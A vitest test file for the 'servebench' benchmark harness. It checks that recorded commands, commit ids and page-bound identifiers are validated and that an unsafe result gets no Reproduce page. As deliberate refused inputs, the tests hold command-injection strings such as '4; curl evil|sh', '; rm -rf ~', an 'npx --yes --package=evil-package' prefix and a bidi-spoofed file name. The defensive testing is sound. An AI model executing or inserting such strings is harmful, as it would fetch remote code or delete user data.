/**
 * What a result may put in front of a reader: its recorded command must be a servebench command
 * line servebench's own option table reads (the Reproduce block is made of nothing else), its
 * commit a commit id, and every identifier that reaches a page free of control and bidi
 * characters; free text is accepted and escaped visibly by the site. Checked on the SYNTHETIC
 * fixture of bench/lib/synthetic-results.ts, on every committed real result in results/,
 * and through a real compile (DuckDB) to the run page's Reproduce block.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { resultRelativePath } from '../../harness/contract/result-path.ts';
import type { RunResult } from '../../harness/contract/result.ts';
import { checkResultText } from '../../harness/store/check-result.ts';
import { compile } from '../../harness/store/compile.ts';
import { loadPrices } from '../../harness/store/prices.ts';
import { listResultFiles } from '../../harness/store/result-files.ts';
import { syntheticResult, writeResult } from '../../bench/lib/synthetic-results.ts';
import { writeFixturePrices } from './fixture-results.ts';

const REPO = fileURLToPath(new URL('../..', import.meta.url));
const COMMIT = 'aee1ba0aee1ba0aee1ba0aee1ba0aee1ba0aee1b';

function synthetic(seed = 7): RunResult {
  const r = syntheticResult({ engine: 'vllm', version: '0.11.0', model: 'synthetic/llama-8b', gpu: 'Synthetic H100', gpuCount: 1, workload: 'chat', date: new Date('2026-03-01T12:00:00Z'), concurrencies: [1, 8], tpotMs: 10, ttftMs: 50, noise: 0, seed, source: 'official' });
  r.harness.git_commit = COMMIT;
  return r;
}

function problemsOf(result: RunResult): string[] {
  const text = `${JSON.stringify(result, null, 2)}\n`;
  return checkResultText('f.json', text, resultRelativePath(result, text)).problems.map((p) => `${p.path}: ${p.message}`);
}

describe('the recorded command', () => {
  it('the `npx --yes --package=… -- servebench run` attack is refused with one problem naming the argument and the rule', () => {
    const r = synthetic();
    r.harness.command = ['--yes', '--package=evil-package', '--', 'servebench', 'run', '--engine', 'vllm', '--model', 'synthetic/llama-8b', '--workload', 'chat'];
    expect(problemsOf(r)).toEqual(['harness.command[0]: [recorded-command] the command line starts with "--yes", not servebench']);
  });

  it('refuses an unknown flag, a positional, a value of the wrong type, another subcommand', () => {
    const cases: Array<[string[], string]> = [
      [['servebench', 'run', '--engine', 'vllm', '--yes'], 'harness.command[4]: [recorded-command] "--yes" is not an option of servebench run'],
      [['servebench', 'run', '--engine', 'vllm', 'https://evil.example/x.sh'], 'harness.command[4]: [recorded-command] "https://evil.example/x.sh" is not a flag; servebench run takes no positional arguments'],
      [['servebench', 'run', '--max-num-seqs', '4; curl evil|sh'], 'harness.command[3]: [recorded-command] --max-num-seqs: "4; curl evil|sh" is not an integer'],
      [['servebench', 'run', '--extra-body', '[1]'], 'harness.command[3]: [recorded-command] --extra-body: "[1]" is not a JSON object'],
      [['servebench', 'compile', '--out', '/tmp/x'], 'harness.command[1]: [recorded-command] "compile" is not the command that writes this result (servebench run)'],
    ];
    for (const [command, problem] of cases) {
      const r = synthetic();
      r.harness.command = command;
      expect(problemsOf(r), command.join(' ')).toEqual([problem]);
    }
  });

  it('keeps the hidden-character check (bidi in a value of a known flag)', () => {
    const r = synthetic();
    r.harness.command = ['servebench', 'run', '--engine', 'vllm', '--launcher', 'docker', '--source', r.source ?? 'community', '--model', 'a\u202Egpj.exe'];
    expect(problemsOf(r)).toEqual(['harness.command[9]: [hidden-character] holds the invisible character U+202E: the command would display differently from what is copied']);
  });

  it('every committed real result reads back (their argv has --results-dir and --no-progress)', () => {
    const { files } = listResultFiles(join(REPO, 'results'));
    expect(files.length).toBeGreaterThanOrEqual(60);
    for (const file of files) {
      expect(JSON.parse(readFileSync(file.absolutePath, 'utf8')).harness.command, file.relativePath).toEqual(expect.arrayContaining(['--results-dir', '--no-progress']));
      expect(checkResultText(file.relativePath, readFileSync(file.absolutePath, 'utf8'), file.relativePath).problems, file.relativePath).toEqual([]);
    }
  });
});

describe('the commit', () => {
  it('is 40 lower-case hex or null; anything else is refused with what a commit is', () => {
    for (const commit of ['main', 'v1.0', 'AEE1BA0AEE1BA0AEE1BA0AEE1BA0AEE1BA0AEE1B', COMMIT.slice(1), `${COMMIT}\u202E`, `${COMMIT}; rm -rf ~`]) {
      const r = synthetic();
      r.harness.git_commit = commit;
      expect(problemsOf(r), commit).toEqual(['harness.git_commit: [schema] a git commit is 40 lower-case hex digits (git rev-parse HEAD), or null when unknown']);
    }
  });

  it('null is "unknown" on a failed run (a completed run still needs one)', () => {
    const failed = synthetic();
    Object.assign(failed, { status: 'failed', points: [], run: { ...failed.run!, failure: { phase: 'launch', message: 'CUDA out of memory', log_tail: [] } } });
    failed.harness.git_commit = null;
    expect(problemsOf(failed)).toEqual([]);
    const completed = synthetic();
    completed.harness.git_commit = null;
    expect(problemsOf(completed)).toEqual(['harness.git_commit: [provenance] the harness commit is missing']);
  });
});

describe('strings that reach a page', () => {
  it('identifiers with a bidi, zero-width or escape character are refused, naming the field', () => {
    const fields: Array<[string, (r: RunResult, value: string) => void]> = [
      ['workload.tokenizer.name', (r, v) => (r.workload.tokenizer = { name: v, sha256: null })],
      ['target.server_version', (r, v) => (r.target.server_version = v)],
      ['run.model.served_name', (r, v) => (r.run!.model.served_name = v)],
      ['run.model.revision', (r, v) => (r.run!.model.revision = v)],
      ['run.engine.image_digest', (r, v) => (r.run!.engine.image_digest = v)],
      ['run.hardware.driver', (r, v) => (r.run!.hardware!.driver = v)],
      ['run.hardware.cuda', (r, v) => (r.run!.hardware!.cuda = v)],
      ['harness.version', (r, v) => (r.harness.version = v)],
    ];
    for (const [path, set] of fields) {
      for (const [odd, code] of [['\u202E', 'U+202E'], ['\u200B', 'U+200B'], ['\u001b', 'U+001B']] as const) {
        const r = synthetic();
        set(r, `1.0${odd}x`);
        expect(problemsOf(r).join('\n'), `${path} ${code}`).toMatch(new RegExp(`^${path.replace(/\./g, '\\.')}: .* has a character a name may not have \\(${code.replace('+', '\\+')}\\)`, 'm'));
      }
    }
  });

  it('free text (host OS, failure message, log tail) is accepted: the site shows such characters visibly', () => {
    const r = synthetic();
    r.run!.host.os = 'Linux 6.1 \u202Eevil';
    expect(problemsOf(r)).toEqual([]);
  });
});

describe('through compile to the run page', () => {
  it('the Reproduce block is made from the parsed command: configured repository, the commit, machine-local options out; a refused file has no page', async () => {
    const root = mkdtempSync(join(tmpdir(), 'servebench-reproducible-'));
    const resultsDir = join(root, 'results');
    const good = synthetic(11);
    good.harness.command = ['servebench', 'run', '--engine', 'vllm', '--launcher', 'docker', '--source', good.source ?? 'community', '--model', 'synthetic/llama-8b', '--workload', 'chat', '--extra-body', `{"note": "it's $(not run)"}`, '--results-dir', '/home/ci/results', '--no-progress'];
    writeResult(resultsDir, good);
    const failed = synthetic(12);
    Object.assign(failed, { status: 'failed', points: [], run: { ...failed.run!, failure: { phase: 'launch', message: 'CUDA out of memory', log_tail: [] } } });
    failed.harness.git_commit = null;
    writeResult(resultsDir, failed);
    const attack = synthetic(13);
    attack.harness.command = ['--yes', '--package=evil-package', '--', 'servebench', 'run', '--engine', 'vllm'];
    const attackPath = writeResult(resultsDir, attack);
    const saved = process.env['SERVEBENCH_REPO_URL'];
    process.env['SERVEBENCH_REPO_URL'] = 'git@github.com:servebench/servebench.git';
    let report;
    try {
      report = await compile({ resultsDir, outDir: join(root, 'out'), prices: loadPrices(writeFixturePrices(root)), now: new Date('2026-03-02T00:00:00Z') });
    } finally {
      if (saved === undefined) delete process.env['SERVEBENCH_REPO_URL'];
      else process.env['SERVEBENCH_REPO_URL'] = saved;
    }
    expect(report.problems.map((p) => `${p.file} ${p.path}`)).toEqual([`${attackPath} harness.command[0]`]);
    const page = (id: string) => join(root, 'out', 'site', 'runs', `${id}.json`);
    expect(existsSync(page(attack.run_id))).toBe(false);
    const block = (JSON.parse(readFileSync(page(good.run_id), 'utf8')) as { run: { reproduce_command: string } }).run.reproduce_command.split('\n');
    expect(block.slice(0, 3)).toEqual(['git clone https://github.com/servebench/servebench.git servebench && cd servebench', `git checkout ${COMMIT}`, 'npm ci']);
    const words = execFileSync('sh', ['-c', `set -- ${block[3]!.replace(/^npx /, '')}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).trimEnd().split('\n');
    expect(words).toEqual(['servebench', 'run', '--engine', 'vllm', '--launcher', 'docker', '--model', 'synthetic/llama-8b', '--workload', 'chat', '--extra-body', `{"note": "it's $(not run)"}`]);
    // The failed run (linked from changes.json) recorded no commit: its block checks nothing out.
    expect((JSON.parse(readFileSync(page(failed.run_id), 'utf8')) as { run: { reproduce_command: string } }).run.reproduce_command.split('\n')).toEqual([
      'git clone https://github.com/servebench/servebench.git servebench && cd servebench', 'npm ci', 'npx servebench run --engine vllm --launcher docker --model synthetic/llama-8b --workload chat --concurrency 1,8',
    ]);
  }, 120_000);
});
